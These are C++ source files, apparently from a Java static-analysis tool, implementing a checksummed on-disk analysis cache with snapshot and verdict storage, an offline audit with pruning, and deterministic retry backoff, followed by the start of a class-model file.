  cached.graph_bytes = std::move(bytes.value());
  cached.graph_bytes.erase(cached.graph_bytes.begin(),
                           cached.graph_bytes.begin() + static_cast<std::ptrdiff_t>(blob_offset));
  if (need_db) {
    auto db = graph::deserialize(cached.graph_bytes);
    if (!db.ok()) return std::nullopt;
    cached.db = std::move(db.value());
  } else {
    // A frozen warm start already carries the graph, so skip the expensive
    // node/edge decode — but keep the integrity contract: verify the store
    // blob's own frame (magic, version, trailing FNV-1a64) so a bit-flipped
    // snapshot is a miss on this path exactly as it is on the decode path.
    std::span<const std::byte> blob(cached.graph_bytes);
    constexpr std::size_t kStoreOverhead = 4 + 2 + 8;
    if (blob.size() < kStoreOverhead) return std::nullopt;
    ByteReader head(blob);
    auto blob_magic = head.u32();
    auto blob_version = head.u16();
    if (!blob_magic.ok() || !blob_version.ok() || blob_magic.value() != graph::kGraphStoreMagic ||
        blob_version.value() != graph::kGraphStoreVersion) {
      return std::nullopt;
    }
    ByteReader blob_tail(blob.subspan(blob.size() - 8));
    auto blob_sum = blob_tail.u64();
    if (!blob_sum.ok() || blob_sum.value() != util::fnv1a(blob.first(blob.size() - 8))) {
      return std::nullopt;
    }
    cached.db_decoded = false;
  }
  stats_.snapshot_hit = true;
  outcome.hit = true;
  return cached;
}

util::Status AnalysisCache::store_snapshot(std::uint64_t key, const cpg::CpgStats& stats,
                                           const std::vector<std::byte>& graph_bytes) {
  obs::Span span("cache.store_snapshot");
  if (span.active()) span.attr("key", util::digest_hex(key));
  span.attr("bytes", static_cast<std::uint64_t>(graph_bytes.size()));
  obs::counter_add("cache.snapshots_published");
  ByteWriter header;
  header.u32(kSnapshotMagic);
  header.u16(kSnapshotVersion);
  header.u64(key);
  write_stats(header, stats);
  header.uvarint(graph_bytes.size());
  header.u64(util::fnv1a(header.data()));
  std::vector<std::byte> file = header.take();
  file.insert(file.end(), graph_bytes.begin(), graph_bytes.end());
  util::ScopedCharge buffer_charge(memory_, file.size());
  if (util::failpoint::poll("cache.snapshot.publish")) {
    return util::Error{"failpoint: injected snapshot publish failure"};
  }
  return write_file_atomic(snapshot_path(key), file);
}

std::optional<graph::FrozenGraph> AnalysisCache::load_frozen(std::uint64_t key,
                                                             std::string* corrupt_reason) {
  obs::Span span("cache.load_frozen");
  if (span.active()) span.attr("key", util::digest_hex(key));
  if (corrupt_reason) corrupt_reason->clear();
  struct MissCounter {
    bool hit = false;
    ~MissCounter() { obs::counter_add(hit ? "cache.frozen_hits" : "cache.frozen_misses"); }
  } outcome;

  fs::path path = frozen_path(key);
  std::error_code ec;
  if (!fs::exists(path, ec) || ec) return std::nullopt;  // plain miss, not corruption
  auto frozen = graph::FrozenGraph::map_file(path, /*frame_offset=*/0, memory_);
  if (!frozen.ok()) {
    if (corrupt_reason) *corrupt_reason = frozen.error().message;
    return std::nullopt;
  }
  if (frozen.value().content_key() != key) {
    if (corrupt_reason) *corrupt_reason = "frozen graph: content key does not match file name";
    return std::nullopt;
  }
  span.attr("bytes", static_cast<std::uint64_t>(frozen.value().frame().size()));
  outcome.hit = true;
  return std::move(frozen.value());
}

util::Status AnalysisCache::store_frozen(std::uint64_t key, const graph::FrozenGraph& frozen) {
  obs::Span span("cache.store_frozen");
  if (span.active()) span.attr("key", util::digest_hex(key));
  span.attr("bytes", static_cast<std::uint64_t>(frozen.frame().size()));
  if (frozen.content_key() != key) {
    return util::Error{"frozen frame content key does not match snapshot key " +
                       util::digest_hex(key)};
  }
  obs::counter_add("cache.frozen_published");
  std::vector<std::byte> file(frozen.frame().begin(), frozen.frame().end());
  util::ScopedCharge buffer_charge(memory_, file.size());
  return write_file_atomic(frozen_path(key), file);
}

std::optional<CachedVerdict> AnalysisCache::load_verdict(std::uint64_t key) {
  auto bytes = read_file_bytes(verdict_path(key));
  if (!bytes.ok()) return std::nullopt;
  auto verdict = decode_verdict_entry(bytes.value(), key);
  obs::counter_add(verdict ? "cache.verdict_hits" : "cache.verdict_misses");
  return verdict;
}

util::Status AnalysisCache::store_verdict(std::uint64_t key, const CachedVerdict& verdict) {
  ByteWriter body;
  body.u64(key);
  body.u8(verdict.verdict);
  body.u8(verdict.reason);
  body.uvarint(verdict.steps);
  body.bytes(verdict.detail);
  obs::counter_add("cache.verdicts_published");
  return write_file_atomic(verdict_path(key), frame_entry(kVerdictMagic, kVerdictVersion, body));
}

// --- Offline audit ---------------------------------------------------------

namespace {

/// Reverse of util::digest_hex: exactly 16 lowercase hex digits.
std::optional<std::uint64_t> parse_digest_hex(std::string_view text) {
  if (text.size() != 16) return std::nullopt;
  for (char c : text) {
    if (!((c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'))) return std::nullopt;
  }
  std::uint64_t value = 0;
  auto [ptr, ec] = std::from_chars(text.data(), text.data() + text.size(), value, 16);
  if (ec != std::errc{} || ptr != text.data() + text.size()) return std::nullopt;
  return value;
}

/// Full fragment validation: the hot path's checks (frame checksum, source
/// digest, fingerprint table, archive decode) plus the digest-vs-filename
/// binding only an offline walk can assert. Returns a reason, or "" = intact.
std::string validate_fragment(std::span<const std::byte> data, std::uint64_t expected_digest) {
  auto body = open_entry(data, kFragmentMagic, kFragmentVersion);
  if (!body) return "bad frame (magic, version or checksum mismatch)";
  ByteReader in(*body);
  auto source_digest = in.u64();
  if (!source_digest.ok()) return "truncated body";
  if (source_digest.value() != expected_digest) return "source digest does not match file name";
  auto n_classes = in.count("fragment class fingerprint");
  if (!n_classes.ok()) return "bad fingerprint table";
  for (std::size_t i = 0; i < n_classes.value(); ++i) {
    if (!in.uvarint().ok()) return "bad fingerprint table";
  }
  auto len = in.count("fragment archive blob");
  if (!len.ok() || len.value() != in.remaining()) return "bad archive blob length";
  auto archive = jar::read_archive(body->subspan(in.position(), len.value()));
  if (!archive.ok()) return "archive blob does not decode: " + archive.error().message;
  return {};
}

/// Full snapshot validation mirroring load_snapshot, including deserializing
/// the embedded graph store (its own checksum is what catches blob flips).
std::string validate_snapshot(std::span<const std::byte> data, std::uint64_t expected_key) {
  ByteReader in(data);
  auto magic = in.u32();
  auto version = in.u16();
  if (!magic.ok() || !version.ok() || magic.value() != kSnapshotMagic ||
      version.value() != kSnapshotVersion) {
    return "bad header (magic or version mismatch)";
  }
  auto stored_key = in.u64();
  if (!stored_key.ok()) return "truncated header";
  if (stored_key.value() != expected_key) return "snapshot key does not match file name";
  if (!read_stats(in)) return "bad stats block";
  auto len = in.count("snapshot graph blob");
  if (!len.ok()) return "bad graph blob length";
  std::uint64_t header_sum = util::fnv1a(data.first(in.position()));
  auto stored_sum = in.u64();
  if (!stored_sum.ok() || stored_sum.value() != header_sum) return "header checksum mismatch";
  if (len.value() != in.remaining()) return "graph blob length mismatch";
  auto db = graph::deserialize(data.subspan(in.position()));
  if (!db.ok()) return "graph store does not deserialize: " + db.error().message;
  return {};
}

}  // namespace

std::string CacheAuditReport::to_string() const {
  std::string out = "cache audit: " + std::to_string(fragments_checked) + " fragment(s), " +
                    std::to_string(snapshots_checked) + " snapshot(s), " +
                    std::to_string(frozen_checked) + " frozen frame(s), " +
                    (verdicts_checked > 0 ? std::to_string(verdicts_checked) + " verdict(s), "
                                          : std::string()) +
                    std::to_string(corrupt) + " corrupt, " + std::to_string(orphaned) +
                    " orphaned, " + std::to_string(reclaimable_bytes) + " byte(s) reclaimable";
  for (const CacheAuditEntry& entry : entries) {
    if (entry.state == CacheAuditEntry::State::Intact) continue;
    const char* state = entry.state == CacheAuditEntry::State::Corrupt ? "corrupt" : "orphaned";
    std::string name =
        (entry.path.parent_path().filename() / entry.path.filename()).generic_string();
    out += "\n  " + std::string(state) + ": " + name + " (" + std::to_string(entry.bytes) +
           " bytes): " + entry.detail;
    if (entry.pruned) out += " [pruned]";
  }
  if (reclaimed_bytes > 0) {
    out += "\n  reclaimed " + std::to_string(reclaimed_bytes) + " byte(s)";
  }
  out += "\n";
  return out;
}

util::Result<CacheAuditReport> audit_cache(const fs::path& dir, bool prune) {
  obs::Span span("cache.audit");
  std::error_code ec;
  fs::path fragments_dir = dir / "fragments";
  fs::path snapshots_dir = dir / "snapshots";
  if (!fs::is_directory(fragments_dir, ec) && !fs::is_directory(snapshots_dir, ec)) {
    return Error{"not a cache directory (no fragments/ or snapshots/): " + dir.string()};
  }

  CacheAuditReport report;

  // Sorted file listing (directory iteration order is filesystem-dependent;
  // the report must not be).
  auto list_files = [&](const fs::path& sub) {
    std::vector<fs::path> files;
    if (!fs::is_directory(sub, ec)) return files;
    for (const fs::directory_entry& e : fs::directory_iterator(sub, ec)) {
      if (e.is_regular_file(ec)) files.push_back(e.path());
    }
    std::sort(files.begin(), files.end());
    return files;
  };

  // Shared accounting + prune for one examined file.
  auto finalize = [&](CacheAuditEntry entry) {
    if (entry.state != CacheAuditEntry::State::Intact) {
      if (entry.state == CacheAuditEntry::State::Corrupt) ++report.corrupt;
      if (entry.state == CacheAuditEntry::State::Orphaned) ++report.orphaned;
      report.reclaimable_bytes += entry.bytes;
      if (prune) {
        std::error_code rm;
        if (fs::remove(entry.path, rm) && !rm) {
          entry.pruned = true;
          report.reclaimed_bytes += entry.bytes;
          obs::counter_add("cache.entries_pruned");
        }
      }
    }
    report.entries.push_back(std::move(entry));
  };

  auto make_entry = [&](const fs::path& file) {
    CacheAuditEntry entry;
    entry.path = file;
    entry.bytes = fs::file_size(file, ec);
    if (ec) entry.bytes = 0;
    return entry;
  };

  auto orphan_detail = [](const fs::path& file) {
    return file.extension() == ".tmp" ? "leftover temp file from interrupted publish"
                                      : "file name is not a cache entry";
  };

  // Fragments: one entry kind, one pass.
  for (const fs::path& file : list_files(fragments_dir)) {
    CacheAuditEntry entry = make_entry(file);
    std::optional<std::uint64_t> id;
    if (file.extension() == ".tfrag") id = parse_digest_hex(file.stem().string());
    if (!id) {
      entry.kind = CacheAuditEntry::Kind::Orphan;
      entry.state = CacheAuditEntry::State::Orphaned;
      entry.detail = orphan_detail(file);
    } else {
      entry.kind = CacheAuditEntry::Kind::Fragment;
      ++report.fragments_checked;
      auto bytes = read_file_bytes(file);
      std::string why = bytes.ok()
                            ? validate_fragment(std::span<const std::byte>(bytes.value()), *id)
                            : "unreadable: " + bytes.error().message;
      if (why.empty()) {
        entry.state = CacheAuditEntry::State::Intact;
      } else {
        entry.state = CacheAuditEntry::State::Corrupt;
        entry.detail = std::move(why);
      }
    }
    finalize(std::move(entry));
  }

  // Snapshots: .tsnp entries and their .tfzn frozen companions share the
  // directory. Pass 1 validates every .tsnp (recording which keys are
  // intact); pass 2 judges .tfzn frames, whose verdict depends on that map —
  // the hot path only trusts a frozen frame next to an intact snapshot, so a
  // companion-less .tfzn is an orphan even when structurally perfect.
  std::vector<fs::path> snapshot_files = list_files(snapshots_dir);
  std::map<fs::path, std::string> tsnp_reason;  // path -> "" (intact) or why
  std::set<std::uint64_t> intact_keys;
  for (const fs::path& file : snapshot_files) {
    if (file.extension() != ".tsnp") continue;
    auto id = parse_digest_hex(file.stem().string());
    if (!id) continue;  // judged an orphan in the main loop below
    auto bytes = read_file_bytes(file);
    std::string why = bytes.ok() ? validate_snapshot(std::span<const std::byte>(bytes.value()), *id)
                                 : "unreadable: " + bytes.error().message;
    if (why.empty()) intact_keys.insert(*id);
    tsnp_reason.emplace(file, std::move(why));
  }
  for (const fs::path& file : snapshot_files) {
    CacheAuditEntry entry = make_entry(file);
    std::optional<std::uint64_t> id = parse_digest_hex(file.stem().string());
    if (id && file.extension() == ".tsnp") {
      entry.kind = CacheAuditEntry::Kind::Snapshot;
      ++report.snapshots_checked;
      const std::string& why = tsnp_reason.at(file);
      if (why.empty()) {
        entry.state = CacheAuditEntry::State::Intact;
      } else {
        entry.state = CacheAuditEntry::State::Corrupt;
        entry.detail = why;
      }
    } else if (id && file.extension() == ".tfzn") {
      entry.kind = CacheAuditEntry::Kind::FrozenSnapshot;
      ++report.frozen_checked;
      auto bytes = read_file_bytes(file);
      std::string why;
      if (!bytes.ok()) {
        why = "unreadable: " + bytes.error().message;
      } else if (auto frozen = graph::FrozenGraph::from_bytes(bytes.value()); !frozen.ok()) {
        why = frozen.error().message;
      } else if (frozen.value().content_key() != *id) {
        why = "frozen graph: content key does not match file name";
      }
      if (!why.empty()) {
        entry.state = CacheAuditEntry::State::Corrupt;
        entry.detail = std::move(why);
      } else if (!intact_keys.count(*id)) {
        entry.state = CacheAuditEntry::State::Orphaned;
        entry.detail =
            "no intact companion snapshot (" + util::digest_hex(*id) + ".tsnp)";
      } else {
        entry.state = CacheAuditEntry::State::Intact;
      }
    } else {
      entry.kind = CacheAuditEntry::Kind::Orphan;
      entry.state = CacheAuditEntry::State::Orphaned;
      entry.detail = orphan_detail(file);
    }
    finalize(std::move(entry));
  }

  // Verdicts: one entry kind, one pass (like fragments). The key is both the
  // file name and an interior field, so a renamed verdict is caught the same
  // way the hot path's load_verdict would treat it: as not-this-chain's.
  for (const fs::path& file : list_files(dir / "verdicts")) {
    CacheAuditEntry entry = make_entry(file);
    std::optional<std::uint64_t> id;
    if (file.extension() == ".tvdt") id = parse_digest_hex(file.stem().string());
    if (!id) {
      entry.kind = CacheAuditEntry::Kind::Orphan;
      entry.state = CacheAuditEntry::State::Orphaned;
      entry.detail = orphan_detail(file);
    } else {
      entry.kind = CacheAuditEntry::Kind::Verdict;
      ++report.verdicts_checked;
      auto bytes = read_file_bytes(file);
      std::string why;
      if (!bytes.ok()) {
        why = "unreadable: " + bytes.error().message;
      } else if (!decode_verdict_entry(std::span<const std::byte>(bytes.value()), *id)) {
        why = "bad verdict frame (checksum, structure or key mismatch)";
      }
      if (why.empty()) {
        entry.state = CacheAuditEntry::State::Intact;
      } else {
        entry.state = CacheAuditEntry::State::Corrupt;
        entry.detail = std::move(why);
      }
    }
    finalize(std::move(entry));
  }

  obs::counter_add("cache.entries_audited", report.entries.size());
  return report;
}

std::chrono::microseconds publish_backoff(std::string_view path, int attempt) {
  // Exponential base: ~1ms, ~2ms, ... for attempts 1, 2, ...
  int exponent = std::clamp(attempt - 1, 0, 20);
  std::uint64_t base = 1000ull << exponent;
  // Jitter decorrelates concurrent runs retrying the same entry. Seeded
  // from the path and the attempt — never the clock — so a chaos run
  // replays with byte-identical sleeps while different entries (and
  // successive attempts) still spread out.
  util::Rng jitter(0x7ab1cac4eULL ^ util::fnv1a(path) ^
                   (static_cast<std::uint64_t>(static_cast<unsigned>(attempt)) << 48));
  return std::chrono::microseconds(base + jitter.next_below(500));
}

}  // namespace tabby::cache
