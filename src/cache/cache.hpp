// Incremental analysis cache (the ROADMAP's "not doing the work at all"
// multiplier). Real deployments re-scan near-identical classpaths; the
// paper's Neo4j store exists precisely so a graph built once can be
// re-queried. This module persists two kinds of artifacts under a cache
// directory, both keyed by content digests (util/digest.hpp):
//
//   fragments/<digest>.tfrag   per-archive fragment: the decoded archive
//                              re-encoded in canonical TJAR form plus the
//                              per-class stable fingerprints. Keyed by the
//                              FNV-1a64 of the raw .tjar file bytes, so a
//                              changed archive simply misses and only it is
//                              re-read — unchanged neighbours warm-start
//                              before the (cheap) cross-archive link step.
//   snapshots/<key>.tsnp       whole-classpath CPG snapshot: CpgStats plus
//                              the graph::serialize (version-2, checksummed)
//                              bytes, embedded verbatim so a warm
//                              `analyze --store` reproduces the cold store
//                              byte for byte. Keyed by snapshot_key(): the
//                              cpg::options_fingerprint folded with every
//                              archive digest in classpath order (order
//                              matters — the linker's first-wins rule).
//   snapshots/<key>.tfzn       frozen CSR companion: a raw graph::FrozenGraph
//                              frame (see docs/GRAPH.md) whose embedded
//                              content key is the snapshot key. Purely an
//                              accelerator for the sibling .tsnp — a warm
//                              --frozen run mmaps it zero-copy and skips the
//                              store decode entirely. A .tfzn without an
//                              intact sibling .tsnp is an orphan: the cache
//                              never reads it (the .tsnp is the source of
//                              truth the audit and warm store paths trust).
//                              Frames carry an optional planner-stats section
//                              (docs/GRAPH.md); the pipeline treats a
//                              stats-less frame as a miss and republishes an
//                              upgraded one from the decoded store.
//   verdicts/<key>.tvdt        one chain-verification verdict (the `--verify`
//                              post-pass, docs/ROBUSTNESS.md "Runtime
//                              re-validation"): warm verify runs skip
//                              re-executing chains whose verdict is already
//                              known. Keyed by the chain digest folded with
//                              the classpath and verify-options fingerprints.
//
// Invalidation is purely structural: there are no timestamps and no
// in-place updates. A changed input or option produces a different key and
// therefore a different file; stale entries are never read again. Corrupt,
// truncated or version-skewed cache entries are detected via the same
// magic/version/checksum discipline as the graph store and are treated as
// misses (the cache self-heals by recomputing and overwriting), never as
// errors and never as data. Fragments carry a whole-entry checksum; a
// snapshot checksums only its header and lets the embedded graph store's
// own checksum cover the blob, so the warm path hashes the megabytes once.
#pragma once

#include <chrono>
#include <cstdint>
#include <filesystem>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "cpg/builder.hpp"
#include "graph/frozen.hpp"
#include "graph/graph.hpp"
#include "jar/archive.hpp"
#include "util/memory_budget.hpp"
#include "util/result.hpp"

namespace tabby::cache {

inline constexpr std::uint32_t kFragmentMagic = 0x54465247;  // "TFRG"
inline constexpr std::uint16_t kFragmentVersion = 1;
inline constexpr std::uint32_t kSnapshotMagic = 0x54534E50;  // "TSNP"
inline constexpr std::uint16_t kSnapshotVersion = 1;
inline constexpr std::uint32_t kVerdictMagic = 0x54564454;  // "TVDT"
inline constexpr std::uint16_t kVerdictVersion = 1;

/// Hit/miss telemetry for one pipeline run, rendered as the CLI's
/// "cache:" stats line.
struct CacheStats {
  std::size_t fragment_hits = 0;
  std::size_t fragment_misses = 0;
  bool snapshot_checked = false;
  bool snapshot_hit = false;
  std::uint64_t snapshot_key = 0;

  std::string to_line() const;
};

/// One classpath entry after cache-aware loading.
struct LoadedArchive {
  jar::Archive archive;
  std::uint64_t digest = 0;  // FNV-1a64 of the raw .tjar file bytes
  bool from_fragment = false;
};

/// One cached chain-verification verdict (see src/finder/verify.hpp; the
/// cache stores the taxonomy as raw codes so it does not depend on the
/// finder's types). Keyed by (chain digest × verify-options fingerprint ×
/// classpath fingerprint) — computed by the pipeline, opaque here.
struct CachedVerdict {
  std::uint8_t verdict = 0;
  std::uint8_t reason = 0;
  std::uint64_t steps = 0;
  std::string detail;
};

/// A warm-started CPG: the deserialized graph plus the cold run's stats and
/// the exact store bytes the snapshot embeds. When load_snapshot() was asked
/// to skip the decode (`need_db = false`), `db` is empty and `db_decoded` is
/// false — graph_bytes still holds the verified store blob.
struct CachedCpg {
  cpg::CpgStats stats;
  graph::GraphDb db;
  std::vector<std::byte> graph_bytes;
  bool db_decoded = true;
};

class AnalysisCache {
 public:
  /// Opens the cache rooted at `dir`, creating the directory layout on
  /// first use. Fails only when the directories cannot be created.
  static util::Result<AnalysisCache> open(const std::filesystem::path& dir);

  /// Digest of a .tjar on disk (reads the file; no decode).
  static util::Result<std::uint64_t> digest_file(const std::filesystem::path& file);

  /// Combined snapshot key for a classpath: `options_fp` (see
  /// cpg::options_fingerprint) folded with the archive digests in classpath
  /// order. Pure function — stable across job counts and process restarts.
  static std::uint64_t snapshot_key(std::uint64_t options_fp,
                                    const std::vector<std::uint64_t>& archive_digests);

  /// Cache-aware decode of one archive file: digests the raw bytes, loads
  /// the matching fragment when present (and intact), otherwise decodes the
  /// original bytes and writes the fragment back. Updates stats().
  util::Result<LoadedArchive> load_archive(const std::filesystem::path& file);

  /// Warm-start lookup. nullopt on miss (absent, corrupt, truncated or
  /// version-skewed snapshot). Updates stats(). With `need_db = false` the
  /// embedded graph store is NOT deserialized (a frozen warm start already
  /// has the graph); its trailing checksum is still verified so a corrupt
  /// blob stays a miss either way.
  std::optional<CachedCpg> load_snapshot(std::uint64_t key, bool need_db = true);

  /// Persists a snapshot: `graph_bytes` must be graph::serialize(db) of the
  /// CPG the stats describe. Written atomically (temp file + rename).
  util::Status store_snapshot(std::uint64_t key, const cpg::CpgStats& stats,
                              const std::vector<std::byte>& graph_bytes);

  /// Frozen warm-start lookup: mmaps snapshots/<key>.tfzn (zero-copy) and
  /// validates the whole frame plus the embedded content key. nullopt on any
  /// miss; when the file exists but fails validation, `corrupt_reason` (if
  /// non-null) receives the structural reason — the caller's cue to emit a
  /// degradation warning before falling back to the store decode. Absent
  /// files leave it empty. Counters: cache.frozen_hits / cache.frozen_misses.
  std::optional<graph::FrozenGraph> load_frozen(std::uint64_t key,
                                                std::string* corrupt_reason = nullptr);

  /// Publishes a frozen frame next to its snapshot. `frozen` must have been
  /// built with content key == `key` (enforced; a mismatch is an error, not
  /// a silent bad entry). Written atomically like every other cache file.
  util::Status store_frozen(std::uint64_t key, const graph::FrozenGraph& frozen);

  /// Verdict warm-start lookup: verdicts/<key>.tvdt. nullopt on miss
  /// (absent, corrupt, version-skewed, or key mismatch — all self-healing).
  std::optional<CachedVerdict> load_verdict(std::uint64_t key);

  /// Persists one verdict atomically (temp file + rename), like every other
  /// cache artifact. Best-effort: a failed publish is not an error the
  /// verify stage surfaces.
  util::Status store_verdict(std::uint64_t key, const CachedVerdict& verdict);

  CacheStats& stats() { return stats_; }
  const std::filesystem::path& dir() const { return dir_; }

  /// Optional byte ledger for the transient snapshot file buffers (the
  /// multi-megabyte read/assemble spans in load_snapshot/store_snapshot).
  /// Telemetry only; never consulted for decisions. Borrowed, may be null.
  void set_memory(util::MemoryBudget* memory) { memory_ = memory; }

 private:
  explicit AnalysisCache(std::filesystem::path dir) : dir_(std::move(dir)) {}

  std::filesystem::path fragment_path(std::uint64_t digest) const;
  std::filesystem::path snapshot_path(std::uint64_t key) const;
  std::filesystem::path frozen_path(std::uint64_t key) const;
  std::filesystem::path verdict_path(std::uint64_t key) const;

  std::filesystem::path dir_;
  CacheStats stats_;
  util::MemoryBudget* memory_ = nullptr;
};

// --- Offline audit (the `tabby cache` subcommand) --------------------------
//
// Lazy self-healing only repairs entries a run happens to touch; a cache
// directory accumulates corrupt and orphaned files it never reads again.
// audit_cache() walks the whole directory eagerly, re-validating every entry
// with the exact discipline the hot path applies (frame checksum + interior
// structure for fragments; header checksum + embedded graph store
// deserialization for snapshots; full structural attach + content-key
// binding for frozen frames) and flagging what the hot path would treat
// as a miss — plus files the cache would never consult at all (orphans:
// stray names, leftover .tmp files from interrupted publishes, and frozen
// frames whose sibling .tsnp is missing or corrupt — the hot path only
// trusts a .tfzn alongside an intact snapshot).

/// One file examined by audit_cache(), in deterministic (sorted) walk order.
struct CacheAuditEntry {
  enum class Kind : std::uint8_t { Fragment, Snapshot, FrozenSnapshot, Verdict, Orphan };
  enum class State : std::uint8_t { Intact, Corrupt, Orphaned };

  std::filesystem::path path;
  Kind kind = Kind::Orphan;
  State state = State::Orphaned;
  std::uintmax_t bytes = 0;
  bool pruned = false;        // removed by this audit (prune mode only)
  std::string detail;         // human-readable reason for non-intact states
};

struct CacheAuditReport {
  std::vector<CacheAuditEntry> entries;
  std::size_t fragments_checked = 0;
  std::size_t snapshots_checked = 0;
  std::size_t frozen_checked = 0;
  std::size_t verdicts_checked = 0;
  std::size_t corrupt = 0;
  std::size_t orphaned = 0;
  /// Bytes held by corrupt + orphaned entries (what prune mode reclaims).
  std::uintmax_t reclaimable_bytes = 0;
  /// Bytes actually deleted (0 unless prune mode).
  std::uintmax_t reclaimed_bytes = 0;

  bool clean() const { return corrupt == 0 && orphaned == 0; }
  /// Multi-line summary, the `tabby cache` output.
  std::string to_string() const;
};

/// Validates every entry under cache directory `dir`; with `prune`, deletes
/// the corrupt and orphaned ones (intact entries are never touched). Fails
/// only when `dir` is not a cache directory at all.
util::Result<CacheAuditReport> audit_cache(const std::filesystem::path& dir, bool prune);

/// The atomic-publish retry delay before attempt `attempt + 1` (attempt is
/// the 1-based try that just failed): exponential base (~1ms, ~2ms) plus
/// jitter seeded from the target path and the attempt number — DETERMINISTIC,
/// so chaos runs replay with identical sleeps, while concurrent runs
/// retrying different entries still decorrelate. Exposed for failpoint_test.
std::chrono::microseconds publish_backoff(std::string_view path, int attempt);

}  // namespace tabby::cache
