// Incremental analysis cache (the ROADMAP's "not doing the work at all"
// multiplier). Real deployments re-scan near-identical classpaths; the
// paper's Neo4j store exists precisely so a graph built once can be
// re-queried. This module persists two kinds of artifacts under a cache
// directory, both keyed by content digests (util/digest.hpp):
//
//   fragments/<digest>.tfrag   per-archive fragment: the decoded archive
//                              re-encoded in canonical TJAR form plus the
//                              per-class stable fingerprints. Keyed by the
//                              FNV-1a64 of the raw .tjar file bytes, so a
//                              changed archive simply misses and only it is
//                              re-read — unchanged neighbours warm-start
//                              before the (cheap) cross-archive link step.
//   snapshots/<key>.tsnp       whole-classpath CPG snapshot: CpgStats plus
//                              the graph::serialize (version-2, checksummed)
//                              bytes, embedded verbatim so a warm
//                              `analyze --store` reproduces the cold store
//                              byte for byte. Keyed by snapshot_key(): the
//                              cpg::options_fingerprint folded with every
//                              archive digest in classpath order (order
//                              matters — the linker's first-wins rule).
//
// Invalidation is purely structural: there are no timestamps and no
// in-place updates. A changed input or option produces a different key and
// therefore a different file; stale entries are never read again. Corrupt,
// truncated or version-skewed cache entries are detected via the same
// magic/version/checksum discipline as the graph store and are treated as
// misses (the cache self-heals by recomputing and overwriting), never as
// errors and never as data. Fragments carry a whole-entry checksum; a
// snapshot checksums only its header and lets the embedded graph store's
// own checksum cover the blob, so the warm path hashes the megabytes once.
#pragma once

#include <cstdint>
#include <filesystem>
#include <optional>
#include <string>
#include <vector>

#include "cpg/builder.hpp"
#include "graph/graph.hpp"
#include "jar/archive.hpp"
#include "util/result.hpp"

namespace tabby::cache {

inline constexpr std::uint32_t kFragmentMagic = 0x54465247;  // "TFRG"
inline constexpr std::uint16_t kFragmentVersion = 1;
inline constexpr std::uint32_t kSnapshotMagic = 0x54534E50;  // "TSNP"
inline constexpr std::uint16_t kSnapshotVersion = 1;

/// Hit/miss telemetry for one pipeline run, rendered as the CLI's
/// "cache:" stats line.
struct CacheStats {
  std::size_t fragment_hits = 0;
  std::size_t fragment_misses = 0;
  bool snapshot_checked = false;
  bool snapshot_hit = false;
  std::uint64_t snapshot_key = 0;

  std::string to_line() const;
};

/// One classpath entry after cache-aware loading.
struct LoadedArchive {
  jar::Archive archive;
  std::uint64_t digest = 0;  // FNV-1a64 of the raw .tjar file bytes
  bool from_fragment = false;
};

/// A warm-started CPG: the deserialized graph plus the cold run's stats and
/// the exact store bytes the snapshot embeds.
struct CachedCpg {
  cpg::CpgStats stats;
  graph::GraphDb db;
  std::vector<std::byte> graph_bytes;
};

class AnalysisCache {
 public:
  /// Opens the cache rooted at `dir`, creating the directory layout on
  /// first use. Fails only when the directories cannot be created.
  static util::Result<AnalysisCache> open(const std::filesystem::path& dir);

  /// Digest of a .tjar on disk (reads the file; no decode).
  static util::Result<std::uint64_t> digest_file(const std::filesystem::path& file);

  /// Combined snapshot key for a classpath: `options_fp` (see
  /// cpg::options_fingerprint) folded with the archive digests in classpath
  /// order. Pure function — stable across job counts and process restarts.
  static std::uint64_t snapshot_key(std::uint64_t options_fp,
                                    const std::vector<std::uint64_t>& archive_digests);

  /// Cache-aware decode of one archive file: digests the raw bytes, loads
  /// the matching fragment when present (and intact), otherwise decodes the
  /// original bytes and writes the fragment back. Updates stats().
  util::Result<LoadedArchive> load_archive(const std::filesystem::path& file);

  /// Warm-start lookup. nullopt on miss (absent, corrupt, truncated or
  /// version-skewed snapshot). Updates stats().
  std::optional<CachedCpg> load_snapshot(std::uint64_t key);

  /// Persists a snapshot: `graph_bytes` must be graph::serialize(db) of the
  /// CPG the stats describe. Written atomically (temp file + rename).
  util::Status store_snapshot(std::uint64_t key, const cpg::CpgStats& stats,
                              const std::vector<std::byte>& graph_bytes);

  CacheStats& stats() { return stats_; }
  const std::filesystem::path& dir() const { return dir_; }

 private:
  explicit AnalysisCache(std::filesystem::path dir) : dir_(std::move(dir)) {}

  std::filesystem::path fragment_path(std::uint64_t digest) const;
  std::filesystem::path snapshot_path(std::uint64_t key) const;

  std::filesystem::path dir_;
  CacheStats stats_;
};

}  // namespace tabby::cache
