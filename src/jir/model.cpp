#include "jir/model.hpp"

#include <deque>
#include <stdexcept>

namespace tabby::jir {

const Method* ClassDecl::find_method(std::string_view method_name, int nargs) const {
  for (const Method& m : methods) {
    if (m.name == method_name && m.nargs() == nargs) return &m;
  }
  return nullptr;
}

const Field* ClassDecl::find_field(std::string_view field_name) const {
  for (const Field& f : fields) {
    if (f.name == field_name) return &f;
  }
  return nullptr;
}

std::uint32_t Program::add_class(ClassDecl cls) {
  auto [it, inserted] = by_name_.emplace(cls.name, static_cast<std::uint32_t>(classes_.size()));
  if (!inserted) throw std::invalid_argument("duplicate class: " + cls.name);
  classes_.push_back(std::move(cls));
  return it->second;
}

std::size_t Program::method_count() const {
  std::size_t n = 0;
  for (const ClassDecl& c : classes_) n += c.methods.size();
  return n;
}

const ClassDecl* Program::find_class(std::string_view name) const {
  auto idx = class_index(name);
  if (!idx) return nullptr;
  return &classes_[*idx];
}

std::optional<std::uint32_t> Program::class_index(std::string_view name) const {
  auto it = by_name_.find(std::string(name));
  if (it == by_name_.end()) return std::nullopt;
  return it->second;
}

std::optional<MethodId> Program::find_method(std::string_view owner, std::string_view name,
                                             int nargs) const {
  auto ci = class_index(owner);
  if (!ci) return std::nullopt;
  const ClassDecl& cls = classes_[*ci];
  for (std::uint32_t mi = 0; mi < cls.methods.size(); ++mi) {
    const Method& m = cls.methods[mi];
    if (m.name == name && m.nargs() == nargs) return MethodId{*ci, mi};
  }
  return std::nullopt;
}

std::optional<MethodId> Program::resolve_method(std::string_view owner, std::string_view name,
                                                int nargs) const {
  // Breadth-first over the supertype lattice: class chain first, then
  // interfaces, matching JVM resolution closely enough for dispatch.
  std::deque<std::string> work{std::string(owner)};
  std::vector<std::string> seen;
  while (!work.empty()) {
    std::string current = std::move(work.front());
    work.pop_front();
    bool already = false;
